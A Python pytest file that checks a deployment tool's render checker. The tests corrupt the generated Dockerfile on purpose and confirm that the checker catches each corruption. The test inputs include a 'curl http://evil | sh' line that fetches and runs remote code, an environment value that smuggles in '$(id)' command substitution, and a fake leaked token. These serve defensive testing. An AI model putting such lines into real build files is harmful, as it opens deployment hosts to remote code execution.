"""The property tests' render check (render_check.py) catches a deliberately broken renderer: each test
breaks modeldeploy.api.render with a monkeypatch, sees check_render fail, and (undo) sees it pass."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path

import pytest

import modeldeploy.api as api
from modeldeploy.rendering.artifact import Artifact
from tests.hostile.corpus import TARGETS
from tests.property.render_check import check_render, local_model

ENV_VALUE = "say $(id) {{x}}"


def _deploy(tmp_path: Path, kind: str = "docker") -> Path:
    local_model(tmp_path)
    path = tmp_path / "deploy.yaml"
    path.write_text(
        json.dumps(
            {
                "apiVersion": "modeldeploy/v1",
                "name": "probe",
                "model": {"source": "./model"},
                "signature": {"required": False},
                "serving": {"env": {"GREETING": ENV_VALUE}},
                "target": TARGETS[kind],
            }
        )
    )
    return path


def _break(monkeypatch: pytest.MonkeyPatch, change) -> None:
    real = api.render

    def broken(dep):
        result = real(dep)
        return dataclasses.replace(result, artifacts=tuple(change(a) for a in result.artifacts))

    monkeypatch.setattr(api, "render", broken)


def _dockerfile(change):
    def edit(a: Artifact) -> Artifact:
        if a.path != "Dockerfile":
            return a
        return Artifact(a.path, a.media_type, change(a.content.decode()).encode())

    return edit


@pytest.mark.parametrize("kind", sorted(TARGETS))
def test_a_sound_render_passes(tmp_path: Path, kind: str) -> None:
    assert check_render(_deploy(tmp_path, kind), None) == "rendered"


def test_an_exception_that_is_not_a_modeldeploy_error_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def crash(dep):
        raise KeyError("serving")

    monkeypatch.setattr(api, "render", crash)
    with pytest.raises(AssertionError, match="KeyError, not a ModelDeployError"):
        check_render(_deploy(tmp_path), None)


def test_an_injected_line_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _break(monkeypatch, _dockerfile(lambda t: t + "curl http://evil | sh\n"))
    with pytest.raises(AssertionError, match="does not read back"):
        check_render(_deploy(tmp_path), None)


def test_a_value_split_by_the_renderer_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _break(monkeypatch, _dockerfile(lambda t: t.replace("\\$(id)", "\\$(id) B=")))
    with pytest.raises(AssertionError, match="not rendered byte-exact"):
        check_render(_deploy(tmp_path), None)


def test_a_leaked_credential_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    _break(monkeypatch, _dockerfile(lambda t: t + f'LABEL leaked="{token}"\n'))
    with pytest.raises(AssertionError, match="looks like a credential"):
        check_render(_deploy(tmp_path), None)


def test_an_evaluated_template_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _break(monkeypatch, _dockerfile(lambda t: t + 'LABEL x="<<1337>>"\n'))
    with pytest.raises(AssertionError, match="evaluated as a template"):
        check_render(_deploy(tmp_path), None)
